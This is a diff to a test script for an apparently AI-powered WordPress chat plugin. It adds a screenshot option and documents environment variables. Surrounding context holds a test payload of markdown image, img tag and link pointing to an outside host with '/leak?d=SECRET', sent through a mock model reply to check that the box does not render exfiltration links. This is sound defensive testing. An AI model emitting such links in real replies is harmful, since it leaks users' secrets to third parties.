@@ -6,7 +6,9 @@
 //
 // Usage: node wordpress.test.js BASE_URL MOCK_STATS_URL
 // Environment: CG_KEY (the provider key), CG_SECRET (the signing secret),
-// CG_WP (JSON: page, block_page, editor, subscriber ids, passwords).
+// CG_WP (JSON: page, block_page, editor, subscriber ids, passwords),
+// CG_REPORT_CMD (writes today's report), CG_SCREENSHOT (where to save a
+// picture of the box, optional).
 // Prints TAP lines and a last line "N passed, N failed"; exits 1 on failure.
 'use strict';
 
@@ -194,6 +196,9 @@ async function main() {
         const limits = await page.textContent('.chatgate-limits');
         ok(/\d+ of 30 requests left this minute/.test(limits),
            'the requests left are shown in words', limits);
+        if (process.env.CG_SCREENSHOT) {
+            await page.locator('.chatgate-box').screenshot({ path: process.env.CG_SCREENSHOT });
+        }
         const evil = '![x](' + outside + '/leak?d=SECRET) <img src=' + outside
             + '/x> [click me](' + outside + '/l?d=SECRET)';
         const r = await say(page, 'Show me [[mock:text=' + pctEncode(evil) + ']]');
